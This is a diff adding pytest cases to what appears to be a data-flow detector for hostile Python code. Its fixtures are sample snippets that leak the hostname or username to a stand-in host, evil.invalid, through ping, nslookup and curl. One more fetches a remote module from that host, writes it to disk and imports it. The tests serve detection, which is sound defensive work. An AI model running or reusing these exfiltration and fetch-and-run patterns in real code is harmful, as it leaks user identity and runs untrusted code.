@@ -181,3 +181,58 @@ def test_what_was_added_to_a_copy_of_a_library_uses_it_by_its_name() -> None:
         }
     )
     assert "net.fetch->code.run" in found.flows()
+
+
+LEAVES = {
+    "a name looked up": """
+        import os, socket
+        os.system(f"ping -c 1 {socket.gethostname()}.q.evil.invalid")
+    """,
+    "an argument of a vector": """
+        import getpass, subprocess
+        subprocess.call(["nslookup", getpass.getuser() + ".q.evil.invalid"])
+    """,
+    "part of an address": """
+        import getpass, os
+        os.system("curl https://evil.invalid/?u=" + getpass.getuser())
+    """,
+    "what another command printed": """
+        import os
+        user = os.popen("whoami").read().strip()
+        os.system("nslookup %s.q.evil.invalid" % user)
+    """,
+}
+
+
+@pytest.mark.parametrize("how", LEAVES)
+def test_what_is_put_into_a_command_line_leaves_with_it(how: str) -> None:
+    flows = [f for f in seen(LEAVES[how]).facts if f.id.endswith(("->net.lookup", "->net.send"))]
+    assert flows
+    assert all("evil.invalid" in f.host for f in flows)
+
+
+def test_a_token_beside_an_address_only_says_who_asks() -> None:
+    found = seen(
+        """
+        import os, subprocess
+        token = os.environ["DEMO_TOKEN"]
+        subprocess.call(["curl", "-X", "POST", "-H", "X-Token: " + token, "https://api.demo.example/v1"])
+        """
+    )
+    assert "secrets.env->net.send" not in found.flows()
+
+
+def test_a_module_that_was_fetched_runs_when_it_is_imported() -> None:
+    text = """
+        import os, sys, tempfile, requests
+        folder = tempfile.mkdtemp()
+        with open(os.path.join(folder, "NAME.py"), "w") as out:
+            out.write(requests.get("https://evil.invalid/h.py").text)
+        sys.path.insert(0, folder)
+        import NAME
+        """
+    chain = "net.fetch->file.write->code.import"
+    assert chain in seen(text.replace("NAME", "late_helper")).flows()
+    assert chain not in seen(text.replace("NAME", "ez_setup")).flows()
+    by_name = text.replace("import NAME", "__import__('NAME')").replace("NAME", "late_helper")
+    assert chain in seen(by_name).flows()
